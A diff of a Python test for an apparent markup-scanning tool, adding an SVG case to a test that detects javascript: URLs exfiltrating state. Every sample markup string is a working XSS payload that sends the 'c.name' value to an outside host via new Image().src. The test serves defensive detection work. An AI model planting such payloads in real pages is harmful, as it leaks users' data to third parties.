@@ -77,7 +77,8 @@ def test_the_code_of_a_javascript_url_is_the_block_s_script():
     policy's 'unsafe-inline' allows them; measured with review's browser layer): the code is read as
     the block's script, not called a URL that never loads."""
     for markup in ('<a href="javascript:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')">go</a>',
-                   '<iframe src="javascript:void(new Image().src=\'https://js.example/?\'+%20flowUi.get(\'c.name\'))"></iframe>'):
+                   '<iframe src="javascript:void(new Image().src=\'https://js.example/?\'+%20flowUi.get(\'c.name\'))"></iframe>',
+                   '<svg><a xlink:href="javascript:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')"><text>go</text></a></svg>'):
         found = rules(markup)
         assert [f.paths for f in found["exfil.state-to-url"]] == [["c.name"]], markup
         assert "url.blocked-scheme" not in found and "blocked.nested-frame" not in found, markup
